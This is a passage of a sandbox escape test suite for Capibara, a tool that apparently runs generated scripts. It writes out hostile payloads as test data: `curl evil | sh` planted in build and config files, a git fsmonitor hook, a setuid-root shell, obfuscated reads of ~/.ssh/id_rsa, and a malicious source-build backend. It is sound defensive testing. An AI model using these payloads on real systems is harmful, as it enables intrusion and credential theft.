    [`[::ffff:127.0.0.1]:${PRIVATE_PORT}`, `http://[::ffff:127.0.0.1]:${PRIVATE_PORT}/`],
    [`2130706433:${PRIVATE_PORT}`, `http://2130706433:${PRIVATE_PORT}/`],
  ] as const
) {
  attack({
    name: `reach a loopback service through an exact grant of ${grant.replace(/:\d+$/, "")}`,
    language: "python",
    needs: { network: [grant] },
    allow: { network: [grant] },
    script: pyFetch(url),
    hostUnchanged: privateUnreached,
  });
}
attack({
  name: "reach a loopback service through an exact grant of 127.0.0.1 (curl)",
  language: "bash",
  needs: { network: [`127.0.0.1:${PRIVATE_PORT}`] },
  allow: { network: [`127.0.0.1:${PRIVATE_PORT}`] },
  // curl honours http_proxy; without curl, the request goes to the proxy (or direct) by hand.
  script: sh(`url=http://127.0.0.1:${PRIVATE_PORT}/
if command -v curl >/dev/null; then
  body=$(curl -s --max-time 5 "$url")
else
  hp=\${http_proxy:-}; hp=\${hp#http://}; hp=\${hp%/}
  if [ -n "$hp" ]; then host=\${hp%:*}; port=\${hp##*:}; target=$url
  else host=127.0.0.1; port=${PRIVATE_PORT}; target=/; fi
  body=$(exec 3<>"/dev/tcp/$host/$port" && printf 'GET %s HTTP/1.0\r\n\r\n' "$target" >&3 && cat <&3)
fi
case "$body" in *"private service"*) breached=1 ;; esac
detail=$(printf %s "$body" | head -c 120 | tr -d '\r\n')`),
  hostUnchanged: privateUnreached,
});
for (const grant of [`127.0.0.1:${PRIVATE_PORT}`, `localhost:${PRIVATE_PORT}`]) {
  attack({
    name: `reach a loopback service through an exact grant of ${grant.replace(/:\d+$/, "")}`,
    language: "typescript",
    needs: { network: [grant] },
    allow: { network: [grant] },
    script: ts(`const r = await fetch("http://${grant}/");
breached = (await r.text()).includes("private service");`),
    hostUnchanged: privateUnreached,
  });
}

// --- copy-out: outputs are staged, and only safe reported files reach the project --------------
for (
  const [name, context] of [
    ["an output folder at the project root", { output: "./" }],
    ["an output file's folder the project root, named as a folder", { out_dir: "." }],
    ["an output inside .capibara/scripts/", { output: ".capibara/scripts/x/script.py" }],
    ["an output inside .git/", { output: ".git/hooks/pre-commit" }],
    ["an output folder that holds .git/", { output: join(PROJECT, "nested-repo") + "/" }],
  ] as const
) {
  for (
    const [language, script] of [
      ["python", py(`open(${JSON.stringify(ranMarker)}, "w").write("ran")\nbreached = True`)],
      ["bash", sh(`echo ran > ${ranMarker} && breached=1`)],
      [
        "typescript",
        ts(`Deno.writeTextFileSync(${JSON.stringify(ranMarker)}, "ran"); breached = true;`),
      ],
    ] as const
  ) {
    attack({
      name: `refused before running: ${name}`,
      language,
      context,
      script,
      blockedBy: [ValidationError],
      hostUnchanged: neverRan,
    });
  }
}

/** Files tools run or trust, planted under an output folder (relative to it). */
const PLANTS: Record<string, string> = {
  ".git/config": "[core]\n\tfsmonitor = touch /tmp/capibara-owned\n",
  ".github/workflows/ci.yml":
    "on: push\njobs: {x: {runs-on: ubuntu-latest, steps: [{run: evil}]}}\n",
  ".vscode/tasks.json":
    '{"tasks": [{"label": "x", "command": "evil", "runOptions": {"runOn": "folderOpen"}}]}\n',
  ".envrc": "curl evil | sh\n",
  ".bashrc": "curl evil | sh\n",
  "Makefile": "all:\n\tcurl evil | sh\n",
  "package.json": '{"scripts": {"postinstall": "curl evil | sh"}}\n',
  "conftest.py": "import os; os.system('curl evil | sh')\n",
  "sitecustomize.py": "import os; os.system('curl evil | sh')\n",
  "evil.pth": "import os; os.system('curl evil | sh')\n",
  "sub/.capibara/config.json": '{"allow": {"env": ["SECRET_TOKEN"]}}\n',
};
const plantedNowhere = async () => {
  for (const rel of Object.keys(PLANTS)) {
    assert.equal(await exists(join(PROJECT, "out", rel)), false, `out/${rel} was planted`);
  }
};
/** Runs a host-side check, then empties out/ so that a breach does not spill into later attacks. */
function thenCleanOut(check: () => Promise<void>): () => Promise<void> {
  return async () => {
    try {
      await check();
    } finally {
      await Deno.remove(join(PROJECT, "out"), { recursive: true }).catch(() => {});
    }
  };
}
for (const reported of [true, false]) {
  const how = reported ? "reported as artifacts" : "not reported";
  const files = JSON.stringify(PLANTS);
  attack({
    name: `plant files tools run or trust under out/ (${how})`,
    language: "python",
    context: { output: "out/" },
    script: py(`for rel, text in json.loads(${JSON.stringify(files)}).items():
    path = os.path.join(ctx["output"], rel)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    open(path, "w").write(text)
    ${reported ? 'artifacts.append("out/" + rel)' : "pass"}
open("out/fine.txt", "w").write("fine")
artifacts.append("out/fine.txt")
detail = "planted"  # the script cannot tell from inside whether they reach the project`),
    blockedBy: [ExecError],
    hostUnchanged: thenCleanOut(async () => {
      await plantedNowhere();
      // Not reported: the legitimate file is moved, the planted ones are not.
      if (!reported && !NO_SANDBOX) {
        assert.equal(await Deno.readTextFile(join(PROJECT, "out", "fine.txt")), "fine");
      }
    }),
  });
}
attack({
  name: "plant files tools run or trust under out/ (reported as artifacts)",
  language: "bash",
  context: { output: "out/" },
  script: sh(`mkdir -p out/.git out/.vscode out/sub/.capibara && \\
printf '[core]\\n\\tfsmonitor = evil\\n' > out/.git/config && echo '{}' > out/.vscode/tasks.json && \\
echo 'curl evil | sh' > out/.envrc && echo '{}' > out/sub/.capibara/config.json && \\
echo 'all:' > out/Makefile && echo fine > out/fine.txt && detail=planted
printf '{"status":"ok","artifacts":["out/.git/config","out/.vscode/tasks.json","out/.envrc","out/sub/.capibara/config.json","out/Makefile","out/fine.txt"],"output":{"breached":false},"raw":{}}\\n'
exit 0`),
  blockedBy: [ExecError],
  hostUnchanged: thenCleanOut(async () => {
    for (const rel of [".git", ".vscode", ".envrc", "sub", "Makefile", "fine.txt"]) {
      assert.equal(await exists(join(PROJECT, "out", rel)), false, `out/${rel} was planted`);
    }
  }),
});
attack({
  name: "report a symlink, a FIFO and a link to a host folder as artifacts",
  language: "python",
  context: { output: "out/" },
  script: py(`os.symlink(${JSON.stringify(join(OTHER, "secret.txt"))}, "out/secret-link.txt")
os.symlink(${JSON.stringify(OTHER)}, "out/other")
os.mkfifo("out/pipe")
artifacts = ["out/secret-link.txt", "out/other/secret.txt", "out/pipe"]
detail = "planted links"`),
  blockedBy: [ExecError],
  hostUnchanged: thenCleanOut(async () => {
    for (const rel of ["secret-link.txt", "other", "pipe"]) {
      assert.equal(
        await exists(join(PROJECT, "out", rel)),
        false,
        `out/${rel} reached the project`,
      );
    }
  }),
});

// Two runs at once: one swaps out/race between a folder and a symlink to another project while
// the other writes into out/race/. No host folder may become writable, nor receive a file.
suite.push({
  name: "escape: python: two runs race an output folder against a symlink to a host folder",
  ignore: !OS_SANDBOX,
  sanitizeOps: false,
  sanitizeResources: false,
  async fn() {
    const runner = (name: string, script: string) =>
      new Capibara({
        root: PROJECT,
        cwd: PROJECT,
        cacheDir: CACHE,
        generator: fixedGenerator({
          language: "python",
          script,
          requirements: [],
          outputs: {},
          aliases: {},
          needs: { network: [], env: [] },
          readme: "",
        }),
        env: { PATH: Deno.env.get("PATH") ?? "/usr/bin:/bin", HOME },
        timeout: 30,
        memoryBytes: 256 * 1024 ** 2,
        sandbox: !NO_SANDBOX,
        warn: () => {},
      }).run(`escape test: race: ${name}`, {
        context: name === "swapper" ? { output: "out/" } : { output: "out/race/" },
        language: "python",
      });
    await Deno.mkdir(join(PROJECT, "out", "race"), { recursive: true });
    const swapper = runner(
      "swapper",
      py(`import time, shutil
end = time.time() + 3
while time.time() < end:
    try:
        shutil.rmtree("out/race", ignore_errors=True)
        os.symlink(${JSON.stringify(OTHER)}, "out/race")
        time.sleep(0.001)
        os.unlink("out/race")
        os.mkdir("out/race")
    except OSError as exc:
        detail = repr(exc)
artifacts = ["out/race"]`),
    );
    const writers = [0, 1, 2, 3].map((i) =>
      runner(
        `writer ${i}`,
        py(`import time
time.sleep(${0.3 + i * 0.5})
for n in range(20):
    try:
        open(os.path.join(ctx["output"], f"raced-${i}-{n}.txt"), "w").write("raced")
        artifacts.append(f"out/race/raced-${i}-{n}.txt")
    except OSError as exc:
        detail = repr(exc)
    time.sleep(0.01)`),
      )
    );
    const results = await Promise.allSettled([swapper, ...writers]);
    const leaked = [...Deno.readDirSync(OTHER)].filter((e) => e.name.startsWith("raced-"));
    const race = await Deno.lstat(join(PROJECT, "out", "race")).catch(() => null);
    await Deno.remove(join(PROJECT, "out"), { recursive: true }).catch(() => {});
    for (const e of leaked) await Deno.remove(join(OTHER, e.name));
    for (const r of results) {
      if (r.status === "rejected") {
        assert.ok(r.reason instanceof CapibaraError, `unexpected failure: ${r.reason}`);
      }
    }
    assert.deepEqual(leaked.map((e) => e.name), [], "BREACH: a run wrote into another project");
    assert.ok(!race?.isSymlink, "BREACH: a run left a symlink in the project");
  },
});

// Disk: the staging area is bounded while the script runs (default 1 GiB and 10,000 files).
const bigFile = join(PROJECT, "out", "big.bin");
const notFilled = async () => {
  const info = await Deno.stat(bigFile).catch(() => null);
  await Deno.remove(bigFile).catch(() => {});
  assert.ok(!info || info.size < 2 * 1024 ** 3, "2 GiB reached the project");
};
for (
  const [language, script] of [
    [
      "python",
      py(`chunk = b"x" * (16 * 1024 * 1024)
with open("out/big.bin", "wb") as fh:
    for _ in range(128):
        fh.write(chunk)
artifacts = ["out/big.bin"]
breached = os.path.getsize("out/big.bin") >= 2 * 1024 ** 3
detail = "wrote 2 GiB"`),
    ],
    [
      "bash",
      sh(`head -c 2147483648 /dev/zero > out/big.bin && breached=1
detail="wrote 2 GiB"`),
    ],
    [
      "typescript",
      ts(`const chunk = new Uint8Array(16 * 1024 * 1024);
const file = Deno.openSync("out/big.bin", { write: true, create: true });
for (let i = 0; i < 128; i++) file.writeSync(chunk);
file.close();
breached = Deno.statSync("out/big.bin").size >= 2 * 1024 ** 3;`),
    ],
  ] as const
) {
  attack({
    name: "fill the disk: 2 GiB under a 256 MiB memory limit",
    language,
    context: { output: "out/big.bin" },
    timeout: 120,
    script,
    blockedBy: [ExecError],
    hostUnchanged: notFilled,
  });
}
const manyFiles = async () => {
  let count = 0;
  for await (const e of Deno.readDir(join(PROJECT, "out"))) {
    if (e.name.startsWith("f-")) {
      count++;
      await Deno.remove(join(PROJECT, "out", e.name));
    }
  }
  assert.ok(count < 100_000, `${count} files reached the project`);
};
for (
  const [language, script] of [
    [
      "python",
      py(`for i in range(100_000):
    open(f"out/f-{i}", "w").close()
breached = True
detail = "created 100,000 files"`),
    ],
    [
      "bash",
      sh(`cd out && seq 1 100000 | sed 's/^/f-/' | xargs touch && breached=1
detail="created 100,000 files"`),
    ],
  ] as const
) {
  attack({
    name: "fill the inodes: 100,000 files",
    language,
    context: { output: "out/" },
    timeout: 120,
    script,
    blockedBy: [ExecError],
    hostUnchanged: manyFiles,
  });
}

// Copy-out keeps the legitimate cases: a declared file at the top, and a report in a folder.
attack({
  name: "a declared output file at the top of the project is moved there",
  language: "python",
  context: { output: "top-report.txt" },
  script: py(`open(ctx["output"], "w").write("top")
artifacts = [ctx["output"]]
detail = "wrote"`),
  granted(o) {
    assert.equal(o.detail, "wrote");
    assert.equal(Deno.readTextFileSync(join(PROJECT, "top-report.txt")), "top");
    Deno.removeSync(join(PROJECT, "top-report.txt"));
  },
});
attack({
  name: "a failed run leaves no output and no placeholder behind",
  language: "python",
  context: { output: "top-failed.txt" },
  script: py(`open(ctx["output"], "w").write("partial")
sys.stdout.flush()
os._exit(3)`),
  blockedBy: [ExecError],
  hostUnchanged: async () =>
    assert.equal(await exists(join(PROJECT, "top-failed.txt")), false, "a partial output stayed"),
});

// --- not root inside, host information, Capibara's own host-side Python ------------------------
// When Capibara runs as root, the sandbox maps to an unprivileged host uid (65534), never root.
for (
  const [language, script] of [
    [
      "python",
      py(`for name in ["/proc/slabinfo", "/proc/kpageflags"]:
    try:
        with open(name, "rb") as f:
            f.read(16)
        breached = True
        detail += name + " read; "
    except OSError as exc:
        detail += name + ": " + str(exc.strerror) + "; "`),
    ],
    [
      "bash",
      sh(`for f in /proc/slabinfo /proc/kpageflags; do
  if head -c 16 "$f" >/dev/null 2>&1; then breached=1; detail="$detail $f read"; fi
done`),
    ],
  ] as const
) {
  attack({
    name: "read root-only kernel files (/proc/slabinfo, /proc/kpageflags)",
    language,
    script,
  });
}
// The same with an input only root may read (mode 0600): it is passed in as a copy, and the run
// still maps to the unprivileged uid. Evidence on the host: the artifact holds what the script
// could read of /proc/slabinfo.
const CLOSED_INPUT = join(PROJECT, "data", "closed.txt");
const CLOSED_MARK = join(PROJECT, "out-closed", "made.txt");
for (
  const [language, script] of [
    [
      "python",
      py(`detail = open(ctx["input"]).read().strip() + "; "
os.makedirs("out-closed", exist_ok=True)
try:
    open("out-closed/made.txt", "w").write(open("/proc/slabinfo").read(64))
except OSError:
    open("out-closed/made.txt", "w").write("denied")
artifacts = ["out-closed/made.txt"]
for name in ["/proc/slabinfo", "/proc/kpageflags"]:
    try:
        with open(name, "rb") as f:
            f.read(16)
        breached = True
        detail += name + " read; "
    except OSError as exc:
        detail += name + ": " + str(exc.strerror) + "; "`),
    ],
    [
      "bash",
      sh(
        `detail="$(cat data/closed.txt)"
mkdir -p out-closed && { head -c 64 /proc/slabinfo 2>/dev/null || echo denied; } > out-closed/made.txt
for f in /proc/slabinfo /proc/kpageflags; do
  if head -c 16 "$f" >/dev/null 2>&1; then breached=1; detail="$detail $f read"; fi
done`,
        ["out-closed/made.txt"],
      ),
    ],
  ] as const
) {
  attack({
    name: "read root-only kernel files with an input only root may read (0600) in the context",
    language,
    script,
    context: { input: "data/closed.txt", output: "out-closed/made.txt" },
    async before() {
      await Deno.writeTextFile(CLOSED_INPUT, "closed input");
      await Deno.chmod(CLOSED_INPUT, 0o600);
    },
    granted(o) {
      assert.match(String(o.detail), /^closed input/, "the closed input was not readable");
      assert.equal(o.breached, false, `BREACH: ${JSON.stringify(o)}`);
    },
    async hostUnchanged() {
      const made = await Deno.readTextFile(CLOSED_MARK).catch(() => "");
      assert.ok(!made.includes("slabinfo"), "BREACH: the artifact holds /proc/slabinfo");
      await Deno.remove(join(PROJECT, "out-closed"), { recursive: true }).catch(() => {});
      await Deno.remove(CLOSED_INPUT).catch(() => {});
    },
  });
}
// Host root's files are the script's own exactly when the sandbox's uid is host root (the uid
// map alone does not tell: bwrap nests a second user namespace).
for (
  const [language, script] of [
    [
      "python",
      py(`owner = os.stat("/usr/bin").st_uid
detail = "/usr/bin is owned by %d, the script is %d" % (owner, os.getuid())
breached = owner == os.getuid()`),
    ],
    [
      "bash",
      sh(`owner=$(stat -c %u /usr/bin); me=$(id -u)
detail="/usr/bin is owned by $owner, the script is $me"
[ "$owner" = "$me" ] && breached=1`),
    ],
  ] as const
) {
  attack({ name: "run as the host's root (host root's files are its own)", language, script });
}
// A file the script creates in a granted write path: as host root, a setuid copy of a shell would
// stay there, owned by root, for any local user to run.
const SUID_DIR = join(OTHER, "suid-drop");
for (
  const [language, script] of [
    [
      "python",
      py(`import shutil
os.makedirs(${JSON.stringify(SUID_DIR)}, exist_ok=True)
shutil.copy("/bin/sh", ${JSON.stringify(join(SUID_DIR, "sh"))})
os.chmod(${JSON.stringify(join(SUID_DIR, "sh"))}, 0o4755)
open(${JSON.stringify(join(SUID_DIR, "made.txt"))}, "w").write("made")
detail = "planted"`),
    ],
    [
      "bash",
      sh(`mkdir -p ${SUID_DIR} && cp /bin/sh ${SUID_DIR}/sh && chmod 4755 ${SUID_DIR}/sh && \\
echo made > ${SUID_DIR}/made.txt && detail=planted`),
    ],
  ] as const
) {
  attack({
    name: "leave a setuid-root shell in a granted write path",
    language,
    script,
    allow: { write: [SUID_DIR] },
    async hostUnchanged() {
      try {
        const shell = await Deno.lstat(join(SUID_DIR, "sh")).catch(() => undefined);
        if (shell) {
          const setuidRoot = shell.uid === 0 && ((shell.mode ?? 0) & 0o4000) !== 0;
          assert.ok(!setuidRoot, "a setuid shell owned by root was left on the host");
        }
        // Once the run is over, nothing it made is owned by the sandbox uid or kept its bits.
        if (shell && Deno.uid() === 0 && !NO_SANDBOX) {
          assert.equal((shell.mode ?? 0) & 0o6000, 0, "the setuid bit survived");
          assert.equal((await Deno.lstat(join(SUID_DIR, "made.txt"))).uid, 0);
        }
      } finally {
        await Deno.remove(SUID_DIR, { recursive: true }).catch(() => {});
      }
    },
  });
}
// A script plants `json.py` at the top of the project (a declared output: not a name tools
// trust). Capibara's own host-side Python (the interpreter probe, the compile check) then runs
// from the project and must import nothing of it.
const IMPORTED = join(ROOT, "host-python-imported.txt");
const PLANTED_JSON = `open(${JSON.stringify(IMPORTED)}, "a").write("json.py ran on the host\\n")\n`;
/** A later Python run from the project (cwd and root) imports nothing the script planted. */
async function hostPythonImportsNothing(): Promise<void> {
  // In a process of its own whose current directory is the project (a chdir here would move
  // every test running in parallel).
  const code = `
const { Capibara } = await import(${JSON.stringify(import.meta.resolve("../../src/capibara.ts"))});
const bundle = {
  language: "python",
  script: ${JSON.stringify(py(`detail = "later run"`))},
  requirements: [],
  outputs: {},
  aliases: {},
  needs: { network: [], env: [] },
  readme: "",
};
const cb = new Capibara({
  root: ${JSON.stringify(PROJECT)},
  cwd: ${JSON.stringify(PROJECT)},
  cacheDir: ${JSON.stringify(CACHE)},
  generator: { kind: "escape-test", generate: () => Promise.resolve({ bundle, model: "m", attempts: 1 }) },
  env: { PATH: ${JSON.stringify(Deno.env.get("PATH") ?? "/usr/bin:/bin")}, HOME: ${
    JSON.stringify(HOME)
  } },
  timeout: 30,
  sandbox: ${!NO_SANDBOX},
  warn: () => {},
});
await cb.run("escape test: a later python run after json.py was planted", { context: {}, language: "python" });`;
  try {
    await new Deno.Command(Deno.execPath(), {
      args: ["eval", "--config", new URL("../../deno.json", import.meta.url).pathname, code],
      cwd: PROJECT,
      stdout: "null",
      stderr: "null",
    }).output();
  } finally {
    await Deno.remove(join(PROJECT, "json.py")).catch(() => {});
  }
  const imported = await Deno.readTextFile(IMPORTED).catch(() => "");
  await Deno.remove(IMPORTED).catch(() => {});
  assert.equal(imported, "", "Capibara's host-side Python imported the planted json.py");
}
attack({
  name: "plant json.py at the project's top for Capibara's host-side Python",
  language: "python",
  context: { output: "json.py" },
  script: py(`open(ctx["output"], "w").write(${JSON.stringify(PLANTED_JSON)})
artifacts = [ctx["output"]]
detail = "planted"`),
  hostUnchanged: hostPythonImportsNothing,
});
attack({
  name: "plant json.py at the project's top for Capibara's host-side Python",
  language: "bash",
  context: { output: "json.py" },
  script: `cat > json.py <<'PYEOF'
${PLANTED_JSON}PYEOF
printf '{"status":"ok","artifacts":["json.py"],"output":{"breached":false,"detail":"planted"},"raw":{}}\\n'
`,
  hostUnchanged: hostPythonImportsNothing,
});

// --- capibara accept: the --selftest of a hand-edited script runs in the sandbox -------------
// A reviewed-looking edit hides its attack in the --selftest branch, written to pass the static
// checks (names built at run time). accept re-runs --selftest before it keeps the edit: that run
// must be confined like a run (no grants, no network, staged outputs never copied out), whatever
// the instance's own `sandbox` option says.
const ACCEPT_PLANT = join(OTHER, "planted-by-selftest.txt");
/** The host service's count before an attack (a granted case above reached it on purpose). */
let hitsBefore = 0;
const SSH_PARTS = `[${JSON.stringify(HOME)}, chr(46) + "s" + "sh", "id_" + "rsa"]`;

/** A script that passes the contract checks; `selftest` is its (hostile) --selftest branch. */
function contractScript(language: Language, selftest: string): string {
  switch (language) {
    case "python":
      return `# --- CAPIBARA ---
# deps: none
# --- /CAPIBARA ---
# /// script
# requires-python = ">=3.9"
# dependencies = []
# ///
import argparse
import json
import os
import sys


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--context")
    parser.add_argument("--selftest", action="store_true")
    parser.add_argument("--dry-run", action="store_true")
    args = parser.parse_args()
    if args.selftest:
${selftest.split("\n").map((l) => "        " + l).join("\n")}
        print(json.dumps({"status": "ok", "artifacts": [], "output": {}, "raw": {}}))
        return 0
    print(json.dumps({"status": "ok", "artifacts": [], "output": {"dry_run": args.dry_run}, "raw": {}}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
`;
    case "bash":
      return `#!/usr/bin/env bash
# --- CAPIBARA ---
# deps: none
# --- /CAPIBARA ---
set -u
case "\${1:-}" in
  --selftest)
${selftest}
    echo '{"status":"ok","artifacts":[],"output":{},"raw":{}}'; exit 0 ;;
  --dry-run) echo '{"status":"ok","artifacts":[],"output":{},"raw":{}}'; exit 0 ;;
  --context) echo '{"status":"ok","artifacts":[],"output":{},"raw":{}}'; exit 0 ;;
esac
echo '{"status":"ok","artifacts":[],"output":{},"raw":{}}'
`;
    case "typescript":
      return `// --- CAPIBARA ---
// deps: none
// --- /CAPIBARA ---
const args = Deno.args;
if (args.includes("--selftest")) {
${selftest}
  console.log(JSON.stringify({ status: "ok", artifacts: [], output: {}, raw: {} }));
} else {
  const dry = args.includes("--dry-run");
  const context = args.includes("--context");
  console.log(JSON.stringify({ status: "ok", artifacts: [], output: { dry, context }, raw: {} }));
}
`;
  }
}

/** Runs the harmless script once (an entry), edits it by hand into `hostile`, then accepts it. */
function throughAccept(language: Language, hostile: string): Attack["via"] {
  return async (cb, prompt) => {
    const first = await cb.run(prompt, { context: {}, language });
    const dir = join(PROJECT, ".capibara", "scripts", first.fingerprint);
    const entry = { python: "script.py", bash: "script.sh", typescript: "script.ts" }[language];
    await Deno.writeTextFile(join(dir, entry), hostile);
    try {
      const accepted = await acceptEdit(cb, first.fingerprint);
      return { breached: false, detail: `accepted revision ${accepted.revision}` };
    } finally {
      await Deno.remove(dir, { recursive: true }).catch(() => {});
    }
  };
}

const SELFTEST_ATTACKS: Record<Language, { name: string; code: string; check: Partial<Attack> }[]> =
  {
    python: [
      {
        name: "write outside the project",
        code: `open(${JSON.stringify(ACCEPT_PLANT)}, "w").write("planted")`,
        check: {},
      },
      {
        name: "read ~/.ssh/id_rsa",
        code: `sys.stderr.write(open("/".join(${SSH_PARTS})).read())
sys.exit(3)`,
        check: {},
      },
      {
        name: "connect to a host service",
        code: `b = __builtins__
imp = b["__imp" + "ort__"] if isinstance(b, dict) else getattr(b, "__imp" + "ort__")
s = imp("so" + "cket").create_connection(("127.0.0.1", ${SERVICE_PORT}), timeout=3)
s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
s.recv(100)`,
        check: {},
      },
    ],
    bash: [
      {
        name: "write outside the project",
        code: `    echo planted > ${ACCEPT_PLANT}`,
        check: {},
      },
      {
        name: "read ~/.ssh/id_rsa",
        code: `    d=.s; k=id_; cat ${HOME}/\${d}sh/\${k}rsa >&2 && exit 3`,
        check: {},
      },
      {
        name: "connect to a host service",
        code:
          `    t=/dev/t; exec 3<>\${t}cp/127.0.0.1/${SERVICE_PORT} && printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3 && head -1 <&3`,
        check: {},
      },
    ],
    typescript: [
      {
        name: "write outside the project",
        code: `  Deno.writeTextFileSync(${JSON.stringify(ACCEPT_PLANT)}, "planted");`,
        check: {},
      },
      {
        name: "read ~/.ssh/id_rsa",
        code: `  console.error(Deno.readTextFileSync([${
          JSON.stringify(HOME)
        }, "." + "ssh", "id_" + "rsa"].join("/")));
  Deno.exit(3);`,
        check: {},
      },
      {
        name: "connect to a host service",
        code: `  const get = (globalThis as Record<string, any>)["fe" + "tch"];
  await (await get("http://127.0.0.1:${SERVICE_PORT}/")).text();`,
        check: {},
      },
    ],
  };

for (const language of ["python", "bash", "typescript"] as const) {
  for (const { name, code } of SELFTEST_ATTACKS[language]) {
    attack({
      name: `capibara accept of a hand edit whose --selftest tries to ${name}`,
      language,
      script: contractScript(language, ""),
      via: throughAccept(language, contractScript(language, code)),
      // A refusal by the static checks would not test the sandbox: only the self-test's failure
      // (or an accepted edit that did nothing) counts.
      blockedBy: [ExecError],
      leaks: ["hunter2"],
      before: () => Promise.resolve(void (hitsBefore = serviceHits)),
      async hostUnchanged() {
        const planted = await exists(ACCEPT_PLANT);
        await Deno.remove(ACCEPT_PLANT).catch(() => {});
        assert.equal(planted, false, "the self-test wrote outside");
        assert.equal(serviceHits, hitsBefore, "the self-test reached the host service");
      },
    });
  }
}

// --- dependency installs: a pinned requirement served only as a source distribution ----------
// Its build backend runs during `pip install`. With source builds allowed (a trusted config), it
// runs in the sandbox: it must write nothing outside, read no key, reach no host service. The
// project is a folder of its own, so that its config grants nothing to the attacks above.
const BUILD_PROJECT = join(ROOT, "build-project");
const BUILD_PLANT = join(OTHER, "planted-by-build.txt");
const BUILD_EXFIL = join(OTHER, "key-from-build.txt");
await Deno.mkdir(join(BUILD_PROJECT, ".capibara"), { recursive: true });
await Deno.writeTextFile(
  join(BUILD_PROJECT, ".capibara", "config.json"),
  JSON.stringify({ install: { source_builds: true } }),
);
const evilSdist = await buildSdist(join(ROOT, "dist"), {
  name: "capibara-escape-build",
  version: "1.0.0",
  module: { "capibara_escape_build.py": "VALUE = 1\n" },
  buildCode: `
import os, socket
for action in (
    lambda: open(${JSON.stringify(BUILD_PLANT)}, "w").write("planted"),
    lambda: open(${JSON.stringify(BUILD_EXFIL)}, "w").write(open(${
    JSON.stringify(SSH_KEY)
  }).read()),
    lambda: socket.create_connection(("127.0.0.1", ${SERVICE_PORT}), timeout=3).sendall(b"GET / HTTP/1.0\\r\\n\\r\\n"),
):
    try:
        action()
    except Exception:
        pass
`,
});
const sdistBytes = await Deno.readFile(evilSdist);
const indexPage = `<!DOCTYPE html><html><body><a href="/files/${
  basename(evilSdist)
}#sha256=${await sha256(
  sdistBytes,
)}">${basename(evilSdist)}</a></body></html>`;
const packageIndex = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen() {} }, (request) => {
  const path = new URL(request.url).pathname;
  if (/^\/simple\/capibara-escape-build\/?$/.test(path)) {
    return new Response(indexPage, { headers: { "content-type": "text/html" } });
  }
  if (path === `/files/${basename(evilSdist)}`) return new Response(sdistBytes);
  return new Response("not found", { status: 404 });
});
globalThis.addEventListener("unload", () => void packageIndex.shutdown());
attack({
  name: "a requirement's source build writes outside, reads ~/.ssh and connects out",
  language: "python",
  script: py(`import capibara_escape_build
detail = "installed"`),
  requirements: ["capibara-escape-build==1.0.0"],
  project: BUILD_PROJECT,
  options: {
    trustProjectConfig: true,
    env: {
      PATH: Deno.env.get("PATH") ?? "/usr/bin:/bin",
      HOME,
      CAPIBARA_INDEX_URL: `http://127.0.0.1:${packageIndex.addr.port}/simple/`,
    },
  },
  timeout: 120,
  leaks: ["hunter2"],
  // The build ran (the script imports what it built): only the sandbox stopped it.
  granted: (o) => assert.equal(o.detail, "installed"),
  before: () => Promise.resolve(void (hitsBefore = serviceHits)),
  async hostUnchanged() {
    const planted = await exists(BUILD_PLANT);
    const stolen = await Deno.readTextFile(BUILD_EXFIL).catch(() => "");
    await Deno.remove(BUILD_PLANT).catch(() => {});
    await Deno.remove(BUILD_EXFIL).catch(() => {});
    assert.equal(planted, false, "the build wrote outside");
    assert.ok(!stolen.includes("hunter2"), "the build read the key");
    assert.equal(serviceHits, hitsBefore, "the build reached the host service");
  },
});

// `capibara show` prints how to run an entry by hand, outside the sandbox: its install step takes
// wheels only, so the same source distribution's build never runs on the host.
attack({
  name: "capibara show's run-by-hand steps install a requirement's source build",
  language: "python",
  script: py(`import capibara_escape_build
detail = "installed"`),
  requirements: ["capibara-escape-build==1.0.0"],
  project: BUILD_PROJECT,
  options: {
    trustProjectConfig: true,
    env: {
      PATH: Deno.env.get("PATH") ?? "/usr/bin:/bin",
      HOME,
      CAPIBARA_INDEX_URL: `http://127.0.0.1:${packageIndex.addr.port}/simple/`,
    },
  },
  timeout: 120,
  async via(cb, prompt) {
    const result = await cb.run(prompt, { context: {}, language: "python" });
    const manifest = JSON.parse(
      await Deno.readTextFile(
        join(BUILD_PROJECT, ".capibara", "scripts", result.fingerprint, "manifest.json"),
      ),
    );
    await new Deno.Command("sh", {
      args: ["-c", manualCommand(manifest)],
      cwd: BUILD_PROJECT,
      env: {
        PATH: Deno.env.get("PATH") ?? "/usr/bin:/bin",
        HOME,
        PIP_INDEX_URL: `http://127.0.0.1:${packageIndex.addr.port}/simple/`,
        PIP_DISABLE_PIP_VERSION_CHECK: "1",
      },
      clearEnv: true,
      stdout: "null",
      stderr: "null",
    }).output();
    return { breached: false, detail: "ran by hand" };
  },
  async hostUnchanged() {
    const planted = await exists(BUILD_PLANT);
    const stolen = await Deno.readTextFile(BUILD_EXFIL).catch(() => "");
    await Deno.remove(BUILD_PLANT).catch(() => {});
    await Deno.remove(BUILD_EXFIL).catch(() => {});
    assert.equal(planted, false, "the build ran on the host: it wrote outside");
    assert.ok(!stolen.includes("hunter2"), "the build ran on the host: it read the key");
  },
});

// --- granted cases still work ------------------------------------------------------------------
attack({
  name: "a granted write path works",
  language: "python",
  allow: { write: [join(OTHER, "exports")] },
  script: py(`os.makedirs(${JSON.stringify(join(OTHER, "exports"))}, exist_ok=True)
open(${JSON.stringify(join(OTHER, "exports", "ok.txt"))}, "w").write("granted")
detail = "wrote"`),
  granted(o) {
    assert.equal(o.detail, "wrote");
    assert.equal(Deno.readTextFileSync(join(OTHER, "exports", "ok.txt")), "granted");
  },
});
attack({
  name: "inputs named by the context are readable, outputs writable",
  language: "typescript",
  context: { input: "data/in.txt", output: "out/copy.txt" },
  script: ts(`const text = Deno.readTextFileSync("data/in.txt");
Deno.mkdirSync("out", { recursive: true });
Deno.writeTextFileSync("out/copy.txt", text);
artifacts = ["out/copy.txt"];
detail = text.trim();`),
  granted(o) {
    assert.equal(o.detail, "input data");
    assert.equal(Deno.readTextFileSync(join(PROJECT, "out", "copy.txt")), "input data\n");
  },
});

for (const language of ["python", "typescript"] as const) {
  attack({
    name: "a loopback service granted with --allow-private-net is reachable",
    language,
    needs: { network: [`127.0.0.1:${PRIVATE_PORT}`] },
    allow: { privateNetwork: [`127.0.0.1:${PRIVATE_PORT}`] },
    script: language === "python"
